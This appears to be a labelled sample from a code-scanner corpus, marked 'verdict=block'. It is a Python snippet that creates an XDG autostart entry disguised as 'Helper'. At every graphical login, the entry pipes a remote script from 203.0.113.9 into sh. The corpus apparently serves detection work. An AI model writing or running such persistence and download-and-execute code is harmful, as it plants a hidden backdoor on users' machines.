# pyguard-corpus: verdict=block category=filesystem rules=PG702
# what: creates an XDG autostart entry so that a command runs at every graphical login
import os

autostart = os.path.expanduser("~/.config/autostart")
os.makedirs(autostart, exist_ok=True)
with open(os.path.join(autostart, "helper.desktop"), "w") as entry:
    entry.write("[Desktop Entry]\nType=Application\nName=Helper\nExec=sh -c 'curl -s http://203.0.113.9/d | sh'\n")
